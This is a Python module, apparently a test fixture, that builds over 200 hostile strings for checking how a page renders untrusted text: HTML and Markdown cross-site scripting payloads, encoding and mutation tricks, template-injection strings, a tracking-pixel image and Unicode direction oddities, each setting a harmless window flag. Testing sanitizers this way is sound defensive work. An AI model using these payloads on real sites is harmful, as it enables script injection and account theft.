"""Make texts that attack a page that shows them."""

from __future__ import annotations

from itertools import product

RUN = "window.__owned=1"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:,{RUN}></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' />",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>click</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='javascript:{RUN}'><button>send</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href='data:text/css,*{{x:expression({RUN})}}'>",
    "<style>*{display:none!important}</style>",
    "<plaintext>",
    "<!--<img src='--><img src=x onerror=window.__owned=1>//'>",
    "</textarea><script>window.__owned=1</script>",
    "</title><script>window.__owned=1</script>",
    "</pre></div></main><script>window.__owned=1</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<div style='background:url(javascript:{RUN})'>x</div>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>",
)
_MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JAVASCRIPT:{RUN})",
    f"[x](java&#115;cript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+)",
    f"[x](vbscript:{RUN})",
    f"![x](javascript:{RUN})",
    f'![x](x "onerror={RUN}")',
    f'![x" onerror="{RUN}](x)',
    "![tracker](http://192.0.2.1/pixel.png)",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"`<script>{RUN}</script>`",
    f"**<svg onload={RUN}>**",
    f"[<img src=x onerror={RUN}>](https://example.org)",
    f"> <script>{RUN}</script>",
    f"- <iframe src=javascript:{RUN}>",
)
_FRAMES = (
    "{}",
    "before {} after",
    "**{}**",
    "‮{}‬",
)
_ODD = (
    "\u202e\u2066gnp.exe\u2069",
    "a\u0000b".replace("\u0000", "\u0001"),
    "\ufeff\u200b\u200d\u2060 zero width",
    "e" + "\u0301" * 500,
    "\u2028line\u2029paragraph",
    "{{constructor.constructor('window.__owned=1')()}}",
    "${window.__owned=1}",
    "<%= window.__owned=1 %>",
    "\u202e<script>window.__owned=1</script>",
    "** ** **** ** * __ ~~",
)


def hostile_texts() -> list[str]:
    """Give at least 200 texts, each one different."""
    framed = [frame.format(text) for text, frame in product((*_ELEMENTS, *_MARKDOWN), _FRAMES)]
    return list(dict.fromkeys((*framed, *_ODD)))
